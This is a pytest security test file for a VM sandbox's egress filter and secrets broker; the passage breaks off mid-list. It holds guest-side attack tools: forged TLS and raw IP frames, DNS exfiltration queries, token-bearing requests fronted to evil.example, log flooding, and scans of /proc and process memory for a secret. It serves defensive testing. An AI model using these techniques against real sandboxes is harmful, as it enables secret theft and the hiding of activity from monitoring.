"""The egress policy and secrets broker attacked as a hostile guest workload would (an
agent under prompt injection): real `bluebox run` on uml with a Bluefile's `allow:` and
`secrets:`, the guest's tools only (perl from the Debian test image: no proxy variables, raw
sockets where needed).

The names are the test's own: a hosts file handed to podman (containers.conf's
base_hosts_file) gives api.bbt and plain.bbt the host's address, where an HTTP server of the
test records each request head and, as many APIs do for CORS, reflects the request's Origin
into Access-Control-Allow-Origin. The Bluefile allows api.bbt (which carries the secret) and
plain.bbt (no secret) on that server's port, and the host's address as a CIDR entry for that
port (else the rebinding rule refuses names that resolve to the host).

Three boots: the attacks that got through when this file was written (each test states the
expected outcome; they fail until the engine is fixed), the attacks that are refused (kept
so they stay refused), and a flood of the connection log."""
import json
import os
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from test_podman_build import env  # noqa: F401  (session fixture)
from test_runtime import UML, Home

VALUE = "sk-live-REAL-attack-value-7f3a"
LOG_CAP = 4 * 1024 * 1024

# ---------------------------------------------------------------------------- guest tools
REQ_PL = r"""
# req.pl HOST PORT DELAY: stdin's bytes as one write after DELAY seconds; prints the reply
use strict; use IO::Socket::INET;
my ($host, $port, $delay) = @ARGV;
local $/; my $req = <STDIN>;
my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 5)
    or do { print "connect failed: $!\n"; exit 0 };
select(undef, undef, undef, $delay) if $delay;
syswrite($s, $req);
my $rin = ""; vec($rin, fileno($s), 1) = 1; my $out = "";
while (select(my $r = $rin, undef, undef, 1.5)) {
    my $n = sysread($s, my $b, 65536);
    if (!defined $n) { $out .= "read error: $!\n"; last }
    last unless $n; $out .= $b;
}
print $out ne "" ? "$out\n" : "no reply\n";
"""

DNS_PL = r"""
# dns.pl QTYPE QCLASS NAME...: one query per NAME (labels split on '|', \n a newline)
use strict; use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "10.0.2.3", PeerPort => 53, Proto => "udp") or die;
my ($qtype, $qclass, @names) = @ARGV;
for my $n (@names) {
    $n =~ s/\\n/\n/g;
    my $q = pack("nnnnnn", 0x4242, 0x0100, 1, 0, 0, 0);
    $q .= chr(length $_) . $_ for split /\|/, $n;
    $q .= "\0" . pack("nn", $qtype, $qclass);
    $s->send($q);
    my $rin = ""; vec($rin, fileno($s), 1) = 1;
    if (select(my $r = $rin, undef, undef, 2)) {
        $s->recv(my $a, 4096);
        printf "rcode=%d answers=%d\n", ord(substr($a, 3, 1)) & 15, unpack("n", substr($a, 6, 2));
    } else { print "no reply\n" }
}
"""

TLS_PL = r"""
# tls.pl HOST PORT SNI MODE: a ClientHello naming SNI; MODE split (two TLS records), seg (two
# TCP writes 0.5 s apart) or one
use strict; use IO::Socket::INET;
my ($host, $port, $sni, $mode) = @ARGV;
my $ext = pack("nnnn", 10, 4, 2, 0x1d);
$ext .= pack("nnnCn", 0, length($sni) + 5, length($sni) + 3, 0, length($sni)) . $sni;
my $body = "\x03\x03" . ("\0" x 32) . "\0" . pack("nn", 2, 0x1301) . "\x01\x00"
    . pack("n", length $ext) . $ext;
my $hs = "\x01" . substr(pack("N", length $body), 1) . $body;
my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 5)
    or do { print "connect failed: $!\n"; exit 0 };
my $rec = "\x16\x03\x01" . pack("n", length $hs) . $hs;
if ($mode eq "split") {
    my $h = int(length($hs) / 2);
    $rec = "\x16\x03\x01" . pack("n", $h) . substr($hs, 0, $h)
        . "\x16\x03\x01" . pack("n", length($hs) - $h) . substr($hs, $h);
    syswrite($s, $rec);
} elsif ($mode eq "seg") {
    my $h = int(length($rec) / 2);
    syswrite($s, substr($rec, 0, $h)); select(undef, undef, undef, 0.5);
    syswrite($s, substr($rec, $h));
} else { syswrite($s, $rec) }
my $n = sysread($s, my $buf, 100);
print defined $n ? "read $n\n" : "read error: $!\n";
"""

FLOOD_PL = r"""
# flood.pl N: N queries for long names nobody allowed, as fast as the socket takes them
use strict; use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "10.0.2.3", PeerPort => 53, Proto => "udp") or die;
my $n = shift; my $l = "f" x 60;
for my $i (1 .. $n) {
    my $q = pack("nnnnnn", $i & 0xffff, 0x0100, 1, 0, 0, 0);
    $q .= chr(length $_) . $_ for ("q$i", $l, $l, $l, "flood", "invalid");
    $s->send($q . "\0" . pack("nn", 1, 1));
    if ($i % 200 == 0) {
        my $rin = ""; vec($rin, fileno($s), 1) = 1;
        while (select(my $r = $rin, undef, undef, 0.001)) { $s->recv(my $a, 4096) }
    }
}
print "flooded $n\n";
"""

RAW_PL = r"""
# raw.pl MODE DST DPORT: hand-made frames from guest root through AF_PACKET (uml: vec0)
use strict; use Socket;
my ($mode, $dst, $dport) = @ARGV;
my $if = "vec0";
open my $fh, "<", "/sys/class/net/$if/ifindex" or die; my $idx = <$fh> + 0;
open $fh, "<", "/sys/class/net/$if/address" or die; my $mac = <$fh>; chomp $mac;
my $src_mac = pack("H12", join "", split /:/, $mac);
my $gw_mac = pack("H12", "52550a000202");
my $src = inet_aton("10.0.2.15"); my $d = inet_aton($dst);
socket(my $s, 17, SOCK_RAW, 0) or die "socket: $!";
my $sll = pack("SnIsCCa8", 17, 0x0800, $idx, 1, 0, 6, $gw_mac);
sub csum { my $b = shift; $b .= "\0" if length($b) % 2; my $sum = 0; $sum += $_ for unpack("n*", $b);
  $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16; return ~$sum & 0xffff; }
sub ip { my ($proto, $payload, $id, $frag) = @_;
  my $h = pack("CCnnnCCna4a4", 0x45, 0, 20 + length $payload, $id, $frag, 64, $proto, 0, $src, $d);
  substr($h, 10, 2) = pack("n", csum($h)); return $h . $payload; }
sub tcp { my ($flags) = @_;
  my $t = pack("nnNNCCnnn", 40000 + int(rand(1000)), $dport, int(rand(1 << 30)), 0, 5 << 4,
    $flags, 64240, 0, 0);
  my $pseudo = $src . $d . pack("CCn", 0, 6, length $t);
  substr($t, 16, 2) = pack("n", csum($pseudo . $t)); return $t; }
sub send_ip { my $pkt = shift; my $f = $gw_mac . $src_mac . pack("n", 0x0800) . $pkt;
  defined send($s, $f, 0, $sll) or print "send: $!\n"; }
if ($mode eq "synack") { send_ip(ip(6, tcp(0x12), 1, 0x4000)); }
elsif ($mode eq "synfin") { send_ip(ip(6, tcp(0x03), 2, 0x4000)); }
elsif ($mode eq "frag") {   # a SYN cut into two fragments: 8 bytes, then the other 12
  my $t = tcp(0x02);
  send_ip(ip(6, substr($t, 0, 8), 3, 0x2000));
  send_ip(ip(6, substr($t, 8), 3, 1)); }
elsif ($mode eq "udpfrag") { # a DNS query for a denied name to 10.0.2.3, in two fragments
  my $q = pack("nnnnnn", 7, 0x0100, 1, 0, 0, 0) . "\x09fragexfil\x07invalid\0" . pack("nn", 1, 1);
  my $u = pack("nnnn", 5353, $dport, 8 + length $q, 0) . $q;
  send_ip(ip(17, substr($u, 0, 16), 4, 0x2000)); send_ip(ip(17, substr($u, 16), 4, 2)); }
print "sent $mode\n";
"""

# -------------------------------------------------------------------------- host servers


def host_addr():
    out = subprocess.run(["ip", "-o", "-4", "addr", "show", "scope", "global"],
                         capture_output=True, text=True).stdout
    for line in out.splitlines():
        w = line.split()
        if not w[1].startswith(("podman", "cni-", "veth")):
            return w[3].split("/")[0]
    pytest.skip("no global IPv4 address on this host")


class Reflector:
    """HTTP/1.1 keep-alive server on every address: records each request head; answers each
    with Access-Control-Allow-Origin set to the request's Origin (CORS reflection)."""

    def __init__(self, port=0):
        self.heads = []
        self.accepted = 0
        self.sock = socket.create_server(("0.0.0.0", port))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            threading.Thread(target=self.one, args=(c,), daemon=True).start()

    def one(self, c):
        buf = b""
        c.settimeout(5)
        try:
            while True:
                while b"\r\n\r\n" not in buf:
                    more = c.recv(65536)
                    if not more:
                        return
                    buf += more
                head, buf = buf.split(b"\r\n\r\n", 1)
                text = head.decode("latin-1")
                self.heads.append(text)
                origin, length = "", 0
                for line in text.split("\r\n")[1:]:
                    k, _, v = line.partition(":")
                    if k.strip().lower() == "origin":
                        origin = v.strip()
                    if k.strip().lower() == "content-length":
                        length = int(v)
                while len(buf) < length:
                    buf += c.recv(65536)
                buf = buf[length:]
                c.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: %s\r\n"
                          b"Content-Length: 3\r\n\r\nok\n" % origin.encode("latin-1"))
        except (OSError, ValueError):
            return
        finally:
            c.close()

    def close(self):
        self.sock.close()


def sections(out):
    """The guest's output cut at lines '== TAG': {TAG: text}."""
    res, tag = {}, None
    for line in out.splitlines():
        if line.startswith("== "):
            tag = line[3:].strip()
            res[tag] = ""
        elif tag:
            res[tag] += line + "\n"
    return res


def took(text):
    """The seconds a section measured itself ('took A B' by /proc/uptime)."""
    for line in text.splitlines():
        if line.startswith("took "):
            _, a, b = line.split()
            return float(b) - float(a)
    raise AssertionError(f"no timing in {text!r}")


def timed(cmd):
    return (f"a=$(cut -d' ' -f1 /proc/uptime); {cmd}; "
            f"echo \"took $a $(cut -d' ' -f1 /proc/uptime)\"")


class Lab:
    def __init__(self, bluebox_bin, tmp: Path):
        image = os.environ.get("BLUEBOX_TEST_DEBIAN_IMAGE")
        if os.geteuid() != 0 or not image:
            pytest.skip("needs root and BLUEBOX_TEST_DEBIAN_IMAGE (tests/integration/setup.sh)")
        self.addr = host_addr()
        self.srv = Reflector()
        self.closed = Reflector()  # on a port no entry allows: must never see a connection
        try:  # port 80: for plain.bbt's name entry (ports 80 and 443), whose HTTP is checked
            self.web = Reflector(80)
        except OSError as e:
            pytest.skip(f"needs port 80 of this host free for a name entry's server: {e}")
        hosts = tmp / "hosts"
        hosts.write_text(f"{self.addr} api.bbt plain.bbt\n")
        hosts.chmod(0o644)
        conf = open(os.environ["CONTAINERS_CONF"]).read().replace(
            "[containers]\n", f'[containers]\nbase_hosts_file = "{hosts}"\n', 1)
        (tmp / "containers.conf").write_text(conf)
        self.env = {"BB_ATTACK_TOKEN": VALUE, "CONTAINERS_CONF": str(tmp / "containers.conf")}
        self.h = Home(bluebox_bin)
        p = self.srv.port
        self.name = self.h.sandbox(f"attack-{os.getpid()}", f"""base: {image}
backend: uml
ram_mib: 384
network: bridge
allow:
  - api.bbt:{p}
  - plain.bbt:{p}
  - plain.bbt
  - {self.addr}/32:{p}
  - {self.addr}/32:80
secrets:
  - name: API_TOKEN
    from_env: BB_ATTACK_TOKEN
    hosts: [api.bbt]
""")
        r = self.h("build", self.name, env=self.env, timeout=900)
        assert r.returncode == 0, r
        data = self.h.data(self.name)
        data.mkdir(parents=True, exist_ok=True)
        for fname, text in (("req.pl", REQ_PL), ("dns.pl", DNS_PL), ("tls.pl", TLS_PL),
                            ("flood.pl", FLOOD_PL), ("raw.pl", RAW_PL)):
            (data / fname).write_text(text)
        self.log = self.h.dir / "home" / "logs" / "net" / f"{self.name}.log"

    def run(self, script, keep_log=False):
        """One boot running script; its output by section and the raw log."""
        if self.log.exists() and not keep_log:
            self.log.write_text("")
        script = "cd /tmp; req() { perl /data/req.pl \"$@\"; }\n" + script.replace(
            "CLOSED", str(self.closed.port)).replace("PORT", str(self.srv.port)).replace(
            "HOSTADDR", self.addr)
        r = self.h("run", self.name, "--", "sh", "-c", script, env=self.env, timeout=600)
        out = r.stdout.decode(errors="replace")
        print(out)
        assert r.returncode == 0, r
        raw = self.log.read_text() if self.log.exists() else ""
        return sections(out), raw

    def close(self):
        self.h.close()
        self.srv.close()
        self.closed.close()
        self.web.close()


@pytest.fixture(scope="module")
def lab(env, bluebox_bin, tmp_path_factory):  # noqa: F811
    if not Path("/usr/bin/linux.uml").exists():
        pytest.skip("needs user-mode-linux")
    lab = Lab(bluebox_bin, tmp_path_factory.mktemp("attacks"))
    yield lab
    lab.close()


def log_lines(raw):
    return [json.loads(line) for line in raw.splitlines() if line.strip()]


# ----------------------------------------------------- boot 1: attacks that got through

GOT_THROUGH = r"""
echo "== env"; echo "token=$API_TOKEN"
echo "== reflect"
printf 'GET /reflect HTTP/1.1\r\nHost: api.bbt\r\nOrigin: %s\r\nAuthorization: Bearer %s\r\n\r\n' "$API_TOKEN" "$API_TOKEN" | req api.bbt PORT 0
echo "== s-pipelined"
printf 'GET /s-pipe-1 HTTP/1.1\r\nHost: api.bbt\r\n\r\nGET /s-pipe-2 HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer %s\r\n\r\n' "$API_TOKEN" | req api.bbt PORT 0
echo "== s-absolute"
printf 'GET http://evil.example/s-abs HTTP/1.1\r\nHost: api.bbt\r\nAuthorization: Bearer %s\r\n\r\n' "$API_TOKEN" | req api.bbt PORT 0
echo "== s-late"
printf 'GET /s-late HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer %s\r\n\r\n' "$API_TOKEN" | req api.bbt PORT 1
echo "== p-good"
printf 'GET /p-good-1 HTTP/1.1\r\nHost: plain.bbt\r\n\r\nGET http://plain.bbt/p-good-2 HTTP/1.1\r\nHost: PLAIN.bbt.:80\r\n\r\n' | req plain.bbt 80 0
echo "== p-pipelined"
printf 'GET /p-pipe-1 HTTP/1.1\r\nHost: plain.bbt\r\n\r\nGET /p-pipe-2 HTTP/1.1\r\nHost: evil.example\r\n\r\n' | req plain.bbt 80 0
echo "== p-absolute"
printf 'GET /p-abs-1 HTTP/1.1\r\nHost: plain.bbt\r\n\r\nGET http://evil.example/p-abs HTTP/1.1\r\nHost: plain.bbt\r\n\r\n' | req plain.bbt 80 0
echo "== p-connect"
printf 'GET /p-con-1 HTTP/1.1\r\nHost: plain.bbt\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\nHost: plain.bbt\r\n\r\n' | req plain.bbt 80 0
echo "== p-upgrade"
printf 'GET /p-up-1 HTTP/1.1\r\nHost: plain.bbt\r\nUpgrade: websocket\r\n\r\nGET /p-up-2 HTTP/1.1\r\nHost: evil.example\r\n\r\n' | req plain.bbt 80 0
echo "== p-late"
printf 'GET /p-late HTTP/1.1\r\nHost: evil.example\r\n\r\n' | req plain.bbt 80 1
echo "== p-port"
printf 'GET /p-port-1 HTTP/1.1\r\nHost: plain.bbt\r\n\r\nGET /p-port-2 HTTP/1.1\r\nHost: evil.example\r\n\r\n' | req plain.bbt PORT 0
echo "== end"
"""


@pytest.fixture(scope="module")
def got_through(lab):
    before, web = len(lab.srv.heads), len(lab.web.heads)
    out, raw = lab.run(GOT_THROUGH)
    return out, log_lines(raw), lab.srv.heads[before:] + lab.web.heads[web:]


@UML
def test_guest_holds_only_the_placeholder(got_through):
    out, _, heads = got_through
    assert "token=BLUEBOX_SECRET_" in out["env"] and VALUE not in out["env"], out
    # These requests are plain HTTP: the value goes only inside TLS the broker
    # verified (tests/integration/test_secrets.py), so api.bbt gets the placeholder.
    assert any("Authorization: Bearer BLUEBOX_SECRET_" in h for h in heads), heads
    assert not any(VALUE in h for h in heads), heads


@UML
def test_a_reflected_header_does_not_bring_the_secret_into_the_guest(got_through):
    """Expected: the real value never reaches the guest through a header the guest picks.
    The broker puts it in place of the placeholder in ANY request header, here Origin, and
    an upstream that reflects Origin into Access-Control-Allow-Origin (CORS: most APIs do)
    hands it back in the response, which the broker passes to the guest as it is. SECURITY.md
    names echoing hosts as a limit ("a debug endpoint, an error page"), but with every header
    open the echo needs no such endpoint. Observed when written: the guest reads
    'Access-Control-Allow-Origin: <the real value>'. Substituting only in Authorization (or
    the header a secret names), and replacing the value by its placeholder in what the host
    sends back, would each stop this one. Fixed: the value goes only into credential headers
    (Authorization, Proxy-Authorization, X-Api-Key and a secret's `headers:`); a placeholder
    in Origin stays and counts as an attempted leak. This request, plain HTTP,
    gets no value at all (refused: cleartext); which headers take a value over verified TLS is
    tests/unit/test_secrets.c's test_subst_headers and test_secrets.py's."""
    out, lines, heads = got_through
    assert "Access-Control-Allow-Origin" in out["reflect"], out  # the request got through
    assert VALUE not in out["reflect"], out["reflect"]
    head = next(h for h in heads if h.startswith("GET /reflect "))
    assert VALUE not in head and "Authorization: Bearer BLUEBOX_SECRET_" in head, head
    assert "Origin: BLUEBOX_SECRET_" in head, head
    assert any(e.get("refused") == "cleartext" and e.get("leaks") for e in lines), lines


def _target_host(head):
    """The host a request is for: the request-target's authority in absolute or authority
    form (RFC 9112 3.2.2: it overrides Host), else the Host header."""
    first, *lines = head.split("\r\n")
    method, target = first.split(" ")[:2]
    if method == "CONNECT":
        return target.rsplit(":", 1)[0]
    if "://" in target:
        return target.split("://", 1)[1].split("/", 1)[0].split(":", 1)[0]
    for line in lines:
        k, _, v = line.partition(":")
        if k.strip().lower() == "host":
            return v.strip().split(":", 1)[0]
    return None


@UML
def test_the_broker_substitutes_only_in_requests_for_its_host(got_through):
    """Expected: the real value goes only into requests for api.bbt. The broker decides once
    per connection (by the SNI/Host of the first bytes) and then substitutes in every request
    head on it: a second pipelined request with 'Host: evil.example', a request whose
    absolute-form target names evil.example (which an origin server must prefer over Host),
    and a request sent after the sniffer's 300 ms wait on a NAME:PORT entry all carried the
    real value when written. On a CDN or a shared virtual-hosting address that hands the
    secret to another tenant."""
    _, _, heads = got_through
    wrong = [h for h in heads if VALUE in h and _target_host(h) != "api.bbt"]
    assert wrong == [], wrong


@UML
def test_every_plain_http_request_names_the_allowed_host(got_through):
    """Expected (plain HTTP is decided by Host, a Host mismatch is refused): no
    request for evil.example reaches the upstream through plain.bbt's connection. Only the
    first request's Host is read, and only if it comes within 300 ms on a NAME:PORT entry, so
    a pipelined second request, an absolute-form or CONNECT target, or a request sent after a
    pause all reached the server when written (domain fronting in the clear). Fixed for name
    entries (plain.bbt, port 80): every request head is read whole before it goes up, and one
    for another host (also after an Upgrade the server ignored) ends the connection, logged.
    A NAME:PORT entry carries any TCP to its name by design (docs/networking.md): there the first HTTP
    request's Host is checked and what follows is the stream's own."""
    out, lines, heads = got_through
    fronted = [h for h in heads
               if (("/p-" in h.split("\r\n")[0] and "/p-port" not in h)
                   or h.startswith("CONNECT"))
               and _target_host(h) != "plain.bbt"]
    assert fronted == [], fronted
    # requests for the name itself go, pipelined and in absolute form too
    assert out["p-good"].count("200 OK") == 2, out["p-good"]
    assert sum(h.startswith("GET /p-good-1 ") or h.startswith("GET http://plain.bbt/p-good-2 ")
               for h in heads) == 2, heads
    refused = [e for e in lines if e.get("kind") == "tcp" and e.get("name") == "plain.bbt"
               and e.get("port") == 80 and "another host" in (e.get("reason") or "")]
    assert len(refused) >= 3, lines
    assert all(e["decision"] == "deny" for e in refused), refused


# ------------------------------------------------------------ boot 2: attacks refused

REFUSED = r"""
echo "== ports"
for t in "api.bbt 22" "10.0.2.250 80" "10.0.2.2 22" "10.0.2.2 80" "10.0.2.2 445" "10.0.2.3 53" "1.1.1.1 443"; do
  set -- $t; echo "target $1 $2: $(perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Timeout => 5); print $s ? "connected" : "refused $!"' $1 $2)"
done
echo "== ports-time"
""" + timed("perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"10.0.2.2\", "
            "PeerPort => 8080, Timeout => 10)'") + r"""
echo "== tftp"
perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "10.0.2.2", PeerPort => 69, Proto => "udp"); $s->send("\0\1passwd\0octet\0"); $rin = ""; vec($rin, fileno($s), 1) = 1; print !select($rin, undef, undef, 2) ? "tftp silent\n" : defined $s->recv($a, 512) ? "tftp answered\n" : "tftp refused: $!\n"'
echo "== dns"
perl /data/dns.pl 16 1 'plain|bbt' 'txt-exfil|denied|invalid'
perl /data/dns.pl 255 1 'plain|bbt'
perl /data/dns.pl 28 1 'plain|bbt'
perl /data/dns.pl 1 3 'plain|bbt'
perl /data/dns.pl 1 1 'PLAIN|BBT'
perl /data/dns.pl 1 1 'inj"ect\\x|bbt' 'new\nline{"decision":"allow"}|bbt'
echo "== dns-outside"
perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "8.8.8.8", PeerPort => 53, Proto => "udp"); $s->send(pack("nnnnnn", 1, 256, 1, 0, 0, 0) . "\6o-exfil\7invalid\0\0\1\0\1"); $rin = ""; vec($rin, fileno($s), 1) = 1; print !select($rin, undef, undef, 2) ? "outside silent\n" : defined $s->recv($a, 512) ? "outside answered\n" : "outside refused: $!\n"'
echo "== tls"
for m in split seg; do for s in evil.example plain.bbt; do echo "$m $s: $(perl /data/tls.pl plain.bbt PORT $s $m)"; done; done
echo "== raw"
for m in synack synfin frag; do perl /data/raw.pl $m HOSTADDR CLOSED; done
perl /data/raw.pl frag HOSTADDR PORT
perl /data/raw.pl udpfrag 10.0.2.3 53
sleep 1
echo "== hostfs"
mkdir -p /mnt/h /mnt/p; mount -t hostfs none /mnt/h -o / 2>&1; mount -t hostfs none /mnt/p -o /proc 2>&1
echo "proc entries: $(ls /mnt/p 2>/dev/null | wc -l)"
timeout 60 grep -rla 'sk-live-REAL-attack-valu[e]' /mnt/h/etc /mnt/h/run /mnt/h/tmp /mnt/h/data /mnt/p /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | head -5
echo "grep done"
echo "== end"
"""


@pytest.fixture(scope="module")
def refused(lab):
    out, raw = lab.run(REFUSED)
    logs = lab.h("logs", lab.name, "--net", env=lab.env)
    assert logs.returncode == 0, logs
    out["logs --net"] = logs.stdout.decode(errors="replace")
    return out, raw


@UML
def test_fake_addresses_and_the_stack_refuse_everything_else(refused):
    """Another port of an allowed name's address, a fake address no name has, the stack's
    gateway and DNS addresses on TCP (ssh, http, smb; DNS over TCP), an IP literal: each is
    reset at once and logged; slirp's TFTP gets no answer (an ICMP refusal at most)."""
    out, raw = refused
    lines = [ln for ln in out["ports"].splitlines() if ln.startswith("target")]
    assert len(lines) == 7 and all("refused" in ln for ln in lines), out["ports"]
    assert took(out["ports-time"]) < 2.0, out["ports-time"]
    assert "tftp answered" not in out["tftp"], out["tftp"]
    frames = {(e["name"], e.get("port")) for e in log_lines(raw) if e.get("kind") == "frame"}
    # 10.0.2.250 (no name has it) gets no ARP answer from slirp: "No route to host", no frame
    for want in (("10.0.2.100", 22), ("10.0.2.2", 445), ("10.0.2.3", 53),
                 ("1.1.1.1", 443), ("10.0.2.2", 69)):
        assert want in frames, (want, frames)


@UML
def test_dns_tricks_are_answered_locally_and_never_forwarded(refused):
    """TXT, ANY and AAAA for an allowed name get at most its fake A record; a denied name's TXT
    is NXDOMAIN and never leaves; class CHAOS is refused; case and a trailing dot are the same
    name; a query straight to an outside resolver is refused; names with quotes, backslashes
    and newlines are logged as valid, escaped JSON and shown escaped by `logs --net`."""
    out, raw = refused
    assert out["dns"].splitlines() == [
        "rcode=0 answers=0",  # TXT plain.bbt
        "rcode=3 answers=0",  # TXT denied
        "rcode=0 answers=1",  # ANY: the fake A
        "rcode=0 answers=0",  # AAAA: empty
        "rcode=5 answers=0",  # class CHAOS: REFUSED
        "rcode=0 answers=1",  # PLAIN.BBT
        "rcode=3 answers=0",  # injection names: NXDOMAIN
        "rcode=3 answers=0",
    ], out["dns"]
    lines = log_lines(raw)  # every line parses
    names = [e.get("name", "") for e in lines if e.get("kind") == "dns"]
    assert 'inj"ect\\\\x.bbt' in names, names
    assert not any("\n" in n for n in names), names
    assert not any(e.get("decision") == "allow" and "line" in e.get("name", "") for e in lines)
    assert "outside answered" not in out["dns-outside"], out["dns-outside"]
    assert any(e.get("name") == "8.8.8.8" and e.get("port") == 53 for e in lines), lines
    shown = out["logs --net"]
    assert 'new?line{"decision":"allow"}.bbt' in shown, shown
    assert not any(ln.startswith("line{") for ln in shown.splitlines()), shown


@UML
def test_hand_made_frames_from_guest_root_open_nothing(lab, refused):
    """Guest root writes Ethernet frames itself (AF_PACKET): a SYN+ACK (which the engine
    passes to slirp as part of no connection), a SYN+FIN, a SYN cut into IP fragments (to a
    port nothing allows, and to the allowed port by its IP: fragments never pass a port
    rule) and a DNS query in fragments. Nothing reaches a server, and no query is answered."""
    out, raw = refused
    assert out["raw"].count("sent ") == 5, out["raw"]
    assert lab.closed.accepted == 0
    lines = log_lines(raw)
    frags = [e for e in lines if e.get("kind") == "frame" and e.get("name") == lab.addr
             and "port" not in e]
    assert len(frags) >= 4, lines  # both fragments of both SYNs refused


@UML
def test_client_hello_split_over_records_and_segments_is_still_read(refused):
    out, raw = refused
    t = out["tls"]
    assert "split evil.example: read error" in t and "seg evil.example: read error" in t, t
    assert "split plain.bbt: read 0" in t and "seg plain.bbt: read 0" in t, t
    tcp = [e for e in log_lines(raw) if e.get("kind") == "tcp"]
    assert sum(e.get("seen") == "evil.example" and e["decision"] == "deny" for e in tcp) == 2, tcp
    assert sum(e.get("seen") == "plain.bbt" and e["decision"] == "allow" for e in tcp) == 2, tcp


@UML
def test_guest_root_cannot_find_the_value_through_hostfs_or_proc(refused):
    out, _ = refused
    assert "proc entries: 0" in out["hostfs"], out["hostfs"]  # the jail hides the container's
    assert out["hostfs"].strip().endswith("grep done"), out["hostfs"]


# -------------------------------------------------------- boot 3: flooding the log

FLOOD = r"""
echo "== before"
printf 'GET /before-flood HTTP/1.1\r\nHost: plain.bbt\r\n\r\n' | req plain.bbt PORT 0
echo "== flood"
perl /data/flood.pl 20000
sleep 1
echo "== after"
echo "literal: $(perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "1.1.1.1", PeerPort => 443, Timeout => 5); print $s ? "connected" : "refused"')"
perl /data/dns.pl 1 1 'after-flood|invalid'
echo "sni: $(perl /data/tls.pl plain.bbt PORT evil.example one)"
printf 'GET /after-flood HTTP/1.1\r\nHost: plain.bbt\r\n\r\n' | req plain.bbt PORT 0
sleep 1  # a connection's line is written when its proxy sees both ends close
echo "== end"
"""


@pytest.fixture(scope="module")
def flooded(lab):
    before = len(lab.srv.heads)
    out, raw = lab.run(FLOOD)
    return out, raw, lab.srv.heads[before:]


@pytest.fixture(scope="module")
def erased(lab, flooded):
    """Four more boots after the flood's: three flood again, one does nothing. (When written
    a boot wrote at most 4 MiB and rotation wanted more than 4 MiB: two flooding boots per
    rotation.) Every generation bluebox keeps is read."""
    for _ in range(3):
        lab.run("perl /data/flood.pl 20000", keep_log=True)
    lab.run("true", keep_log=True)
    text = lab.log.read_text()
    for n in (1, 2, 3):  # the generations bluebox keeps
        old = lab.log.with_name(f"{lab.log.name}.{n}")
        text += old.read_text() if old.exists() else ""
    return text


@UML
def test_enforcement_holds_when_the_log_is_full(flooded):
    out, raw, heads = flooded
    assert "flooded 20000" in out["flood"], out
    a = out["after"]
    assert "literal: refused" in a and "rcode=3" in a and "sni: read error" in a, a
    assert "200 OK" in a, a
    assert len(raw.encode()) <= LOG_CAP + 200, len(raw)
    # the denied names past their share are counted, not written
    summary = [e for e in log_lines(raw) if e.get("decision") == "not written"]
    assert summary, raw[-2000:]
    dns_lines = sum(e.get("kind") == "dns" for e in log_lines(raw))
    last = int(summary[-1]["reason"].split()[0])
    assert dns_lines < 20000 and dns_lines + last >= 10000, (dns_lines, summary[-1])


@UML
def test_a_log_flood_does_not_hide_what_the_guest_does_next(flooded):
    """Expected: the connections the guest makes after a flood are still on record. The log
    holds the first 4 MiB of a boot, first come first served; 20 000 queries for denied names
    (under a second from the guest) fill it, and then the IP literal, the forged SNI and the
    allowed connection the guest made next were not logged at all when written. A share of
    the budget that name lookups cannot take (or denials counted instead of written one by
    one) would keep them. Fixed: dns lines get 1 MiB of the 4 and frame lines 512 KiB, past
    which they are counted in a summary line."""
    _, raw, _ = flooded
    lines = log_lines(raw)
    start = next(i for i, e in enumerate(lines) if e.get("name", "").startswith("q1."))
    after = {(e.get("kind"), e.get("decision")) for e in lines[start:]
             if e.get("name") in ("1.1.1.1", "plain.bbt")}
    assert ("tcp", "allow") in after and ("tcp", "deny") in after, lines[-3:]
    assert ("frame", "deny") in after, lines[-3:]


@UML
def test_floods_on_later_boots_do_not_erase_what_an_earlier_boot_did(flooded, erased):
    """Expected: a connection the guest made is still on record a few boots later. The log
    is moved to .log.1 at a boot that finds it over 4 MiB and the older .log.1 is dropped, and
    the guest decides how fast it grows: the flood boot's connection (made before its flood,
    so logged then) is gone from both files after three more flooding boots and one that does
    nothing, when written. Keeping more generations, or a budget the guest's denials cannot
    fill, would keep it. Fixed: both (three generations, .1 to .3; dns and frame shares)."""
    _, raw, _ = flooded
    was = [e for e in log_lines(raw) if e.get("kind") == "tcp" and e.get("name") == "plain.bbt"]
    assert was, "the connection before the flood was not logged: nothing to look for"
    now = [e for e in log_lines(erased)
           if e.get("kind") == "tcp" and e.get("name") == "plain.bbt" and e in was]
    assert now, "the earlier boot's connection is in neither log file"


# ------------------------------------------- boot 4: the secret in the VMM's memory

SCAN_PY = r"""
import sys
pid, needle = sys.argv[1], sys.argv[2].encode()
try:
    maps = open(f"/proc/{pid}/maps").read().splitlines()
    mem = open(f"/proc/{pid}/mem", "rb", 0)
except OSError as e:
    print(f"cannot open: {e.strerror}")
    sys.exit(0)
hits = 0
for line in maps:
    span, perms = line.split()[:2]
    lo, hi = (int(x, 16) for x in span.split("-"))
    if "r" not in perms or hi - lo > 1 << 30:
        continue
    try:
        mem.seek(lo)
        hits += mem.read(hi - lo).count(needle)
    except OSError:
        continue
print(f"found {hits}")
"""

CAP_NAMES = ["chown", "dac_override", "dac_read_search", "fowner", "fsetid", "kill", "setgid",
             "setuid", "setpcap", "linux_immutable", "net_bind_service", "net_broadcast",
             "net_admin", "net_raw", "ipc_lock", "ipc_owner", "sys_module", "sys_rawio",
